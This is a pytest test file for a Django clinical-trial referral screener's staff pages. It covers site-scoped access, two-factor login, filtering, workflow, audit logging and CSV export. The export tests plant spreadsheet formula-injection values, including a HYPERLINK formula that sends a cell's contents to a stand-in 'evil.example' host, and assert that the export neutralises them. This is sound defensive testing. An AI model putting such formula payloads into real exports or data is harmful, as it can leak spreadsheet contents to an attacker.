"""Research staff see their own sites' referrals, move them through the workflow, and every look is logged."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from screener.referrals.models import AccessLog, AnswerCheck, Referral, ReferralEvent
from screener.second_factor import LOGIN_FAILED

pytestmark = pytest.mark.django_db


def make_referral(site, name="Wang Fang", status="new", days_ago=0, **fields):
    from screener.referrals.models import ConsentText

    consent = ConsentText.current()
    referral = Referral.objects.create(
        trial=site.trial,
        site=site,
        name=name,
        phone="+8613800138000",
        email="",
        consent=consent,
        consent_wording=consent.render(site),
        consent_given_at=timezone.now(),
        verdict="match",
        status=status,
        answers_snapshot=[
            {"key": "age", "question": "How old are you?", "short_label": "age", "answer": "60 years", "stored": "60"}
        ],
        outcomes_snapshot=[],
        **fields,
    )
    if days_ago:
        Referral.objects.filter(pk=referral.pk).update(created_at=timezone.now() - timedelta(days=days_ago))
    return referral


STAFF_URLS = [
    ("get", "staff:detail", {}),
    ("post", "staff:status", {"status": "contacted"}),
    ("post", "staff:note", {"note": "Called"}),
    ("post", "staff:check_answer", {"state": "verified"}),
]


def staff_url(name, referral):
    args = [referral.id, "age"] if name == "staff:check_answer" else [referral.id]
    return reverse(name, args=args)


# Who may see what


@pytest.mark.parametrize("method, name, data", STAFF_URLS)
def test_staff_of_another_site_get_404(staff_b_client, referral_a, method, name, data):
    response = getattr(staff_b_client, method)(staff_url(name, referral_a), data)
    assert response.status_code == 404
    referral_a.refresh_from_db()
    assert referral_a.status == "new" and not referral_a.events.exclude(kind="created").exists()


def test_staff_of_another_site_do_not_see_it_listed_or_exported(staff_b_client, referral_a):
    assert referral_a.display_reference not in staff_b_client.get(reverse("staff:list")).content.decode()
    searched = staff_b_client.get(reverse("staff:list"), {"q": referral_a.reference}).content.decode()
    assert f'data-reference="{referral_a.reference}"' not in searched and "0 referrals" in searched
    export = staff_b_client.get(reverse("staff:export")).getvalue().decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(export)))) == 1


@pytest.mark.parametrize("method, name, data", STAFF_URLS + [("get", "staff:list", {}), ("get", "staff:export", {})])
def test_anonymous_visitors_are_sent_to_the_login_page(client, referral_a, method, name, data):
    url = reverse(name) if name in ("staff:list", "staff:export") else staff_url(name, referral_a)
    response = getattr(client, method)(url, data)
    assert response.status_code == 302 and response["Location"].startswith(reverse("staff:login"))


def test_a_patient_cannot_reach_staff_pages(patient, referral_a):
    assert patient.get(reverse("staff:detail", args=[referral_a.id]))["Location"].startswith("/staff/login/")


def test_site_staff_cannot_reach_django_admin(staff_a_client):
    response = staff_a_client.get("/admin/")
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_staff_log_in_with_a_password_and_a_one_time_code_and_out(client, staff_a):
    from django_otp.oath import totp
    from django_otp.plugins.otp_totp.models import TOTPDevice

    app = TOTPDevice.objects.create(user=staff_a, name="phone", confirmed=True)
    code = f"{totp(app.bin_key, step=app.step, t0=app.t0, digits=app.digits):06d}"
    page = client.get(reverse("staff:login")).content.decode()
    assert 'name="username"' in page and 'name="password"' in page and 'name="otp_token"' in page
    response = client.post(
        reverse("staff:login"), {"username": "nurse_a", "password": "a-long-test-password", "otp_token": code}
    )
    assert response["Location"] == reverse("staff:list")
    assert client.get(reverse("staff:list")).status_code == 200
    response = client.post(reverse("staff:logout"))
    assert response["Clear-Site-Data"] == '"cache", "storage"'
    assert client.get(reverse("staff:list")).status_code == 302


@pytest.mark.parametrize("token", ["", "000000", "abcdefgh"], ids=["no code", "wrong app code", "wrong backup code"])
def test_a_password_alone_does_not_open_the_workspace(client, staff_a, token):
    response = client.post(
        reverse("staff:login"), {"username": "nurse_a", "password": "a-long-test-password", "otp_token": token}
    )
    assert response.status_code == 200 and str(LOGIN_FAILED) in response.content.decode()
    assert client.get(reverse("staff:list")).status_code == 302


def test_a_logged_in_but_unverified_user_is_sent_back_to_the_login(client, staff_a, referral_a):
    client.force_login(staff_a)
    response = client.get(reverse("staff:detail", args=[referral_a.id]))
    assert response.status_code == 302 and response["Location"].startswith(reverse("staff:login"))


def test_a_wrong_password_is_refused_politely(client, staff_a):
    response = client.post(reverse("staff:login"), {"username": "nurse_a", "password": "wrong", "otp_token": "246810"})
    assert response.status_code == 200
    assert str(LOGIN_FAILED) in response.content.decode()


# The list


def test_the_list_shows_own_referrals_newest_first(staff_a_client, site_a):
    old = make_referral(site_a, name="Old", days_ago=3)
    new = make_referral(site_a, name="New")
    html = staff_a_client.get(reverse("staff:list")).content.decode()
    assert html.index(new.display_reference) < html.index(old.display_reference)
    assert "2 referrals" in html


@pytest.mark.parametrize(
    "params, expected",
    [
        ({"status": "contacted"}, {"Contacted one"}),
        ({"q": "fang"}, {"Wang Fang"}),
        ({"date_from": "{three_days_ago}", "date_to": "{yesterday}"}, {"Old"}),
        ({"site": "{site_b}"}, {"At B"}),
        ({"trial": "NCT07355868"}, {"Wang Fang", "Contacted one", "Old", "At B"}),
    ],
)
def test_the_list_filters(client, django_user_model, site_a, site_b, params, expected):
    from tests.conftest import make_staff

    user = make_staff(django_user_model, "coordinator", site_a)
    from trials.models import StaffMembership

    StaffMembership.objects.create(user=user, site=site_b)
    from tests.conftest import log_in_with_second_factor

    log_in_with_second_factor(client, user)
    make_referral(site_a)
    make_referral(site_a, name="Contacted one", status="contacted")
    make_referral(site_a, name="Old", days_ago=3)
    make_referral(site_b, name="At B")
    today = timezone.localdate()
    values = {
        "three_days_ago": str(today - timedelta(days=3)),
        "yesterday": str(today - timedelta(days=1)),
        "site_b": str(site_b.public_id),
    }
    params = {k: v.format(**values) for k, v in params.items()}
    html = client.get(reverse("staff:list"), params).content.decode()
    shown = {r.name for r in Referral.objects.all() if r.display_reference in html}
    assert shown == expected


@pytest.mark.parametrize(
    "params, unfolded", [({}, False), ({"q": "Li"}, False), ({"status": "new"}, True), ({"date_from": "x"}, True)]
)
def test_the_list_keeps_the_search_box_and_folds_the_other_filters_until_one_is_used(
    staff_a_client, site_a, params, unfolded
):
    html = staff_a_client.get(reverse("staff:list"), params).content.decode()
    search, folded = html.index('id="id_q"'), html.index('<details class="more-filters"')
    assert search < folded < html.index('id="id_status"')
    assert ('<details class="more-filters" open>' in html) is unfolded
    assert "---------" not in html  # an empty study or site reads "Any", as the status does


def test_a_reference_finds_its_referral_however_it_is_typed(staff_a_client, site_a):
    wanted, other = make_referral(site_a), make_referral(site_a, name="Other")
    html = staff_a_client.get(reverse("staff:list"), {"q": wanted.display_reference.lower()}).content.decode()
    assert wanted.display_reference in html and other.display_reference not in html


def test_a_bad_filter_is_explained_and_the_rest_still_apply(staff_a_client, site_a):
    make_referral(site_a, status="contacted")
    make_referral(site_a, name="New one")
    html = staff_a_client.get(
        reverse("staff:list"), {"date_from": "yesterday-ish", "status": "contacted"}
    ).content.decode()
    assert "Enter a date like 2026-11-22." in html
    assert "1 referral" in html


def test_the_list_is_paginated_and_pages_keep_the_filters(staff_a_client, site_a):
    for number in range(27):
        make_referral(site_a, name=f"Patient {number}")
    html = staff_a_client.get(reverse("staff:list"), {"status": "new"}).content.decode()
    assert "Page 1 of 2" in html and "?status=new&amp;page=2" in html
    assert html.count('<li class="referral-card" data-reference') == 25
    page2 = staff_a_client.get(reverse("staff:list"), {"status": "new", "page": "2"}).content.decode()
    assert page2.count('<li class="referral-card" data-reference') == 2
    assert staff_a_client.get(reverse("staff:list"), {"page": "999"}).status_code == 200


def test_htmx_filtering_swaps_only_the_results_and_keeps_the_url(staff_a_client, site_a):
    make_referral(site_a)
    response = staff_a_client.get(
        reverse("staff:list"),
        {"status": "new"},
        headers={"HX-Request": "true", "HX-Current-URL": "http://testserver/staff/referrals/"},
    )
    html = response.content.decode()
    assert html.lstrip().startswith('<section id="results"') and "<form" not in html
    assert response["HX-Push-Url"] == "/staff/referrals/?status=new"


def test_the_list_s_queries_do_not_grow_with_its_referrals(staff_a_client, site_a):
    make_referral(site_a)
    staff_a_client.get(reverse("staff:list"))
    with CaptureQueriesContext(connection) as few:
        staff_a_client.get(reverse("staff:list"))
    for number in range(20):
        make_referral(site_a, name=f"P{number}")
    with CaptureQueriesContext(connection) as many:
        staff_a_client.get(reverse("staff:list"))
    assert len(many) == len(few)


# The detail and the workflow


def test_the_detail_shows_contact_consent_answers_outcomes_and_history(staff_a_client, referral_a):
    html = staff_a_client.get(reverse("staff:detail", args=[referral_a.id])).content.decode()
    for words in (
        "Li Wei",
        "+8657989979999",
        "li.wei@example.org",
        "Mornings are best.",
        "Version 2026-12-v2",
        "will be shared with the team running",
        "How far did you walk in your most recent six-minute walk test?",
        "300 m",
        "150 m ≤ six-minute walk distance &lt; 600 m",
        "Sent by the patient",
    ):
        assert words in html, words
    assert AccessLog.objects.filter(user__username="nurse_a", action="view", referral=referral_a).count() == 1


def test_what_the_answers_left_open_comes_first_and_the_protocol_checks_and_satisfied_criteria_are_folded(
    staff_a_client, referral_a
):
    referral_a.outcomes_snapshot[0]["outcome"] = "unknown"  # one answer the patient did not know
    referral_a.save()
    html = staff_a_client.get(reverse("staff:detail", args=[referral_a.id])).content.decode()
    criteria = html[html.index("Criteria when sent</h2>") :]
    shown, team, met = criteria.split("<details")[:3]
    assert shown.count("data-outcome=") == 1 and 'data-outcome="unknown"' in shown
    count = {
        kind: sum(row["outcome"] == kind for row in referral_a.outcomes_snapshot) for kind in ("study_team", "met")
    }
    assert f"{count['study_team']} criteria for you to check at screening, in the registry’s words</summary>" in team
    assert team.count('data-outcome="study_team"') == count["study_team"]
    assert f"{count['met']} criteria the answers already satisfy</summary>" in met
    assert met.count('data-outcome="met"') == count["met"]


def test_moving_a_referral_records_who_when_from_what_to_what_and_the_note(staff_a_client, staff_a, referral_a):
    response = staff_a_client.post(
        reverse("staff:status", args=[referral_a.id]), {"status": "contacted", "note": "Rang at 10"}
    )
    assert response.status_code == 302
    referral_a.refresh_from_db()
    assert referral_a.status == "contacted"
    event = referral_a.events.get(kind="status")
    assert (event.by, event.from_status, event.to_status, event.note) == (staff_a, "new", "contacted", "Rang at 10")
    assert AccessLog.objects.filter(action="status", referral=referral_a, detail="contacted").exists()


@pytest.mark.parametrize("status", ["enrolled", "eligible", "withdrawn", "new", "made-up"])
def test_a_transition_that_makes_no_sense_is_refused_politely(staff_a_client, referral_a, status):
    response = staff_a_client.post(reverse("staff:status", args=[referral_a.id]), {"status": status})
    assert response.status_code == 200
    assert "Choose a status from the list." in response.content.decode()
    referral_a.refresh_from_db()
    assert referral_a.status == "new"


def test_the_whole_workflow_to_enrolled(staff_a_client, referral_a):
    for status in ["contacted", "pre_screening", "eligible", "enrolled"]:
        assert staff_a_client.post(reverse("staff:status", args=[referral_a.id]), {"status": status}).status_code == 302
    referral_a.refresh_from_db()
    assert referral_a.status == "enrolled"
    html = staff_a_client.get(reverse("staff:detail", args=[referral_a.id])).content.decode()
    assert "This referral is closed" in html


def test_a_withdrawn_referral_cannot_be_moved(staff_a_client, referral_a):
    referral_a.withdraw()
    staff_a_client.post(reverse("staff:status", args=[referral_a.id]), {"status": "contacted"})
    referral_a.refresh_from_db()
    assert referral_a.status == "withdrawn"


def test_a_note_without_a_status_change(staff_a_client, referral_a):
    staff_a_client.post(reverse("staff:note", args=[referral_a.id]), {"note": "Left a voicemail"})
    assert referral_a.events.filter(kind="note", note="Left a voicemail").exists()
    referral_a.refresh_from_db()
    assert referral_a.status == "new"
    html = staff_a_client.post(reverse("staff:note", args=[referral_a.id]), {"note": ""}).content.decode()
    assert "Write a note first." in html


def test_staff_mark_an_answer_verified_or_contradicted(staff_a_client, referral_a):
    url = reverse("staff:check_answer", args=[referral_a.id, "sixmwd_m"])
    staff_a_client.post(url, {"state": "contradicted", "note": "Measured 140 m"})
    check = AnswerCheck.objects.get(referral=referral_a, question_key="sixmwd_m")
    assert (check.state, check.note) == ("contradicted", "Measured 140 m")
    staff_a_client.post(url, {"state": "verified", "note": ""})
    assert AnswerCheck.objects.get(referral=referral_a, question_key="sixmwd_m").state == "verified"
    assert referral_a.events.filter(kind="verification").count() == 2
    assert AccessLog.objects.filter(action="check", detail="sixmwd_m").count() == 2
    assert (
        staff_a_client.post(
            reverse("staff:check_answer", args=[referral_a.id, "shoe_size"]), {"state": "verified"}
        ).status_code
        == 404
    )
    html = staff_a_client.post(url, {"state": ""}).content.decode()
    assert "Choose verified, contradicted or measured." in html


# Export


def test_the_export_is_utf8_with_a_bom_filtered_and_logged(staff_a_client, site_a):
    make_referral(site_a, name="王芳")
    make_referral(site_a, name='=HYPERLINK("http://evil")', status="contacted")
    response = staff_a_client.get(reverse("staff:export"), {"status": "new", "q": ""})
    assert response["Content-Type"] == "text/csv; charset=utf-8" and response.streaming
    body = response.getvalue()
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:3] == ["reference", "sent", "status"]
    assert [row[5] for row in rows[1:]] == ["王芳"]
    everything = list(
        csv.reader(io.StringIO(staff_a_client.get(reverse("staff:export")).getvalue().decode("utf-8-sig")))
    )
    assert '\'=HYPERLINK("http://evil")' in [row[5] for row in everything]
    assert list(AccessLog.objects.filter(action="export").order_by("at", "pk").values_list("detail", flat=True)) == [
        "status=new",
        "",
    ]


def test_an_export_never_logs_the_name_searched_for(staff_a_client, site_a):
    staff_a_client.get(reverse("staff:export"), {"q": "Wang Fang"})
    assert "Wang" not in AccessLog.objects.get(action="export").detail


# Admin


def test_admins_read_the_access_log_but_nobody_edits_it(admin_client, referral_a, staff_a_client):
    staff_a_client.get(reverse("staff:detail", args=[referral_a.id]))
    entry = AccessLog.objects.get()
    assert admin_client.get(reverse("admin:referrals_accesslog_changelist")).status_code == 200
    assert admin_client.get(reverse("admin:referrals_accesslog_add")).status_code == 403
    assert (
        admin_client.post(reverse("admin:referrals_accesslog_delete", args=[entry.pk]), {"post": "yes"}).status_code
        == 403
    )
    page = admin_client.get(reverse("admin:referrals_accesslog_change", args=[entry.pk])).content.decode()
    assert 'name="_save"' not in page
    assert AccessLog.objects.count() == 1


def test_admins_see_referrals_read_only(admin_client, referral_a):
    page = admin_client.get(reverse("admin:referrals_referral_change", args=[referral_a.pk])).content.decode()
    assert "Li Wei" in page and 'name="name"' not in page
    assert admin_client.get(reverse("admin:referrals_referral_add")).status_code == 403


def test_admins_manage_memberships_on_the_site_page(admin_client, site_a, staff_a):
    page = admin_client.get(reverse("admin:trials_site_change", args=[site_a.pk])).content.decode()
    assert "staff who see this site" in page.lower() and "nurse_a" in page


def test_events_are_kept_in_order(referral_a, staff_a):
    referral_a.add_note("first", by=staff_a)
    referral_a.move_to("contacted", by=staff_a)
    assert list(referral_a.events.values_list("kind", flat=True)) == ["created", "note", "status"]
    assert ReferralEvent.objects.count() == 3


@pytest.mark.parametrize("field", ["trial", "site", "q", "status"])
def test_a_nul_byte_in_a_filter_gets_the_polite_bad_request_page(staff_a_client, site_a, field):
    """Found by the fuzzer on PostgreSQL, which refuses to compare text containing NUL: since issue 24 a NUL
    anywhere in a request is refused before any view reads it (RefuseNullCharactersMiddleware)."""
    make_referral(site_a)
    response = staff_a_client.get(reverse("staff:list"), {field: "NCT\x00"})
    assert response.status_code == 400 and "Please go back and try again." in response.content.decode()


def test_the_staff_address_leads_to_the_list_or_the_login(client, staff_a_client):
    assert client.get("/staff/")["Location"] == reverse("staff:list")
    assert client.get(reverse("staff:list"))["Location"].startswith(reverse("staff:login"))
    assert staff_a_client.get("/staff/", follow=True).status_code == 200


# The dashboard


def test_the_dashboard_counts_only_the_users_own_sites_per_status_and_through_the_funnel(
    staff_a_client, staff_a, site_a, site_b
):
    contacted = make_referral(site_a, status="new")
    contacted.move_to("contacted", by=staff_a)
    contacted.move_to("pre_screening", by=staff_a)
    make_referral(site_a, status="new")
    make_referral(site_b, status="new")  # another site's: never counted
    page = staff_a_client.get(reverse("staff:dashboard")).content.decode()
    assert '<svg class="chart" role="img"' in page
    assert '<th scope="row">New</th><td>1</td>' in page
    assert '<th scope="row">Pre-screening</th><td>1</td>' in page
    assert '<th scope="row">Sent</th><td>2</td>' in page
    assert '<th scope="row">Contacted</th><td>1</td>' in page
    filtered = staff_a_client.get(reverse("staff:dashboard"), {"status": "new"}).content.decode()
    assert '<th scope="row">Sent</th><td>1</td>' in filtered


@pytest.mark.parametrize(
    "email, active, says",
    [
        ("nurse_a@hospital.example", True, "an email with a link goes to nurse_a@hospital.example"),
        ("", True, "do not reach you: your account has no email address"),
    ],
    ids=["with an email address", "without one"],
)
def test_a_staff_members_profile_says_whether_new_referral_emails_reach_them(
    staff_a_client, staff_a, email, active, says
):
    staff_a.email, staff_a.is_active = email, active
    staff_a.save()
    assert says in staff_a_client.get(reverse("staff:profile")).content.decode()


def test_the_detail_page_has_unique_ids_and_history_names_the_question_not_its_key(staff_a_client, site_a, staff_a):
    import re

    referral = make_referral(site_a)
    referral.check_answer("age", "verified", "Checked the ID card", by=staff_a)
    html = staff_a_client.get(reverse("staff:detail", args=[referral.id])).content.decode()
    ids = re.findall(r'\sid="([^"]+)"', html)
    assert len(ids) == len(set(ids)), sorted(i for i in ids if ids.count(i) > 1)
    history = html[html.index('<ol class="history">') :]
    history = history[: history.index("</ol>")]
    assert '<div class="message" data-check-line>Age: Verified.</div>' in history
    assert '<div class="message">Checked the ID card</div>' in history
    assert "age: Verified" not in history


def test_attack_a_facility_named_as_a_formula_in_the_registry_comes_out_of_the_export_as_text(
    staff_a_client, staff_a, site_a, tmp_path
):
    import copy
    import json

    from django.core.management import call_command

    from trials.models import StaffMembership

    record = copy.deepcopy(site_a.trial.source_record)
    record["protocolSection"]["contactsLocationsModule"]["locations"] = [
        {"facility": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "city": "@SUM(1+1)", "country": "China"}
    ]
    (tmp_path / "study.json").write_text(json.dumps(record), encoding="utf-8")
    call_command("import_ctgov", str(tmp_path / "study.json"), stdout=io.StringIO(), stderr=io.StringIO())
    site = site_a.trial.sites.get(city="@SUM(1+1)")
    StaffMembership.objects.create(user=staff_a, site=site)
    referral = make_referral(site, name="-2+3")
    Referral.objects.filter(pk=referral.pk).update(phone="\t=1+1", email=" =1")

    body = staff_a_client.get(reverse("staff:export")).getvalue().decode("utf-8-sig")
    [row] = [row for row in csv.reader(io.StringIO(body)) if "HYPERLINK" in row[4]]
    assert row[4] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click"), @SUM(1+1), China'
    assert row[5:8] == ["'-2+3", "'\t=1+1", "' =1"]
    assert not any(cell and cell[0] in "=+-@\t\r" for line in csv.reader(io.StringIO(body)) for cell in line)


@pytest.mark.parametrize(
    ("language", "title", "not_title"),
    [
        ("en", "<title>Referrals – study staff</title>", "Referrals – Referrals"),
        ("zh-hans", "<title>转介——研究人员</title>", "转介——转介"),
    ],
)
def test_the_referral_list_s_title_names_the_page_once(staff_a_client, language, title, not_title):
    page = staff_a_client.get(reverse("staff:list"), HTTP_ACCEPT_LANGUAGE=language).content.decode()
    assert title in page and not_title not in page


@pytest.mark.parametrize(
    ("language", "label", "tag", "hint"),
    [
        ("en", "Measured", "Measured (the patient did not know)", "or as measured where the patient did not know it"),
        ("zh-hans", "已测量", "已测量（患者原先不知道）", "请标为“已测量”"),
    ],
)
def test_staff_record_a_value_the_team_measured_where_the_patient_did_not_know_it(
    staff_a_client, referral_a, language, label, tag, hint
):
    """The walkthrough: a walk distance the patient did not know (320 m, measured) could only be saved as verified
    or contradicted. It is a third choice, saved, shown and written in the history in the reader's language."""
    page = staff_a_client.get(reverse("staff:detail", args=[referral_a.id]), HTTP_ACCEPT_LANGUAGE=language)
    html = page.content.decode()
    assert f'value="measured" id="measured-sixmwd_m"><label for="measured-sixmwd_m">{label}</label>' in html
    assert hint in html
    url = reverse("staff:check_answer", args=[referral_a.id, "sixmwd_m"])
    staff_a_client.post(url, {"state": "measured", "note": "320 m"}, HTTP_ACCEPT_LANGUAGE=language)
    check = AnswerCheck.objects.get(referral=referral_a, question_key="sixmwd_m")
    assert (check.state, check.note) == ("measured", "320 m")
    html = staff_a_client.get(reverse("staff:detail", args=[referral_a.id]), HTTP_ACCEPT_LANGUAGE=language)
    assert f'<span class="tag tag-measured">{tag}</span> – 320 m' in html.content.decode()
    assert staff_a_client.post(url, {"state": "guessed"}).status_code == 200  # not a choice: the form again
    assert AnswerCheck.objects.get(referral=referral_a, question_key="sixmwd_m").state == "measured"


def test_in_chinese_the_contact_section_and_its_contact_by_field_have_different_labels(staff_a_client, referral_a):
    html = staff_a_client.get(
        reverse("staff:detail", args=[referral_a.id]), HTTP_ACCEPT_LANGUAGE="zh-hans"
    ).content.decode()
    assert "<h2>联系方式</h2>" in html and "<dt>首选联系途径</dt>" in html
    assert "<dt>联系方式</dt>" not in html


@pytest.mark.parametrize(
    ("language", "site", "not_site"),
    [
        ("en", "The Fourth Hospital of Zhejiang University School of Medicine", "浙江大学医学院附属第四医院"),
        ("zh-hans", "浙江大学医学院附属第四医院，义乌", "The Fourth Hospital"),
    ],
)
def test_the_exports_site_column_is_in_the_staff_members_language_as_the_list_shows_it(
    staff_a_client, site_a, language, site, not_site
):
    make_referral(site_a)
    body = staff_a_client.get(reverse("staff:export"), HTTP_ACCEPT_LANGUAGE=language).getvalue().decode("utf-8-sig")
    [_header, row] = list(csv.reader(io.StringIO(body)))
    assert row[4].startswith(site) and not_site not in row[4]
    listed = staff_a_client.get(reverse("staff:list"), HTTP_ACCEPT_LANGUAGE=language).content.decode()
    assert site.split("，")[0] in listed


def test_the_patients_phone_is_shown_in_readable_groups_and_dialled_as_stored(staff_a_client, site_a):
    referral = make_referral(site_a)
    Referral.objects.filter(pk=referral.pk).update(phone="+8613812342223")
    html = staff_a_client.get(reverse("staff:detail", args=[referral.id])).content.decode()
    assert '<a href="tel:+8613812342223">+86 138 1234 2223</a>' in html
    Referral.objects.filter(pk=referral.pk).update(phone="12")  # not a number the library reads: as stored
    html = staff_a_client.get(reverse("staff:detail", args=[referral.id])).content.decode()
    assert '<a href="tel:12">12</a>' in html


@pytest.mark.parametrize(
    ("stored", "exported"),
    [
        ("+8613812345678", "(+86) 138 1234 5678"),
        ("+8657989979999", "(+86) 579 8997 9999"),
        ("+442079460958", "(+44) 20 7946 0958"),
        ("", ""),
        ("12", "12"),  # not a number the library reads: as stored
        ("+12", "'+12"),  # nor this, and it starts as a formula would: still guarded
    ],
)
@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_the_export_writes_a_phone_number_a_spreadsheet_keeps_as_text_without_a_visible_mark(
    staff_a_client, site_a, stored, exported, language
):
    """Walkthrough 10: "'+8613812345678" showed its apostrophe in Excel."""
    referral = make_referral(site_a)
    Referral.objects.filter(pk=referral.pk).update(phone=stored)
    body = staff_a_client.get(reverse("staff:export"), HTTP_ACCEPT_LANGUAGE=language).getvalue().decode("utf-8-sig")
    [_header, row] = list(csv.reader(io.StringIO(body)))
    assert row[6] == exported
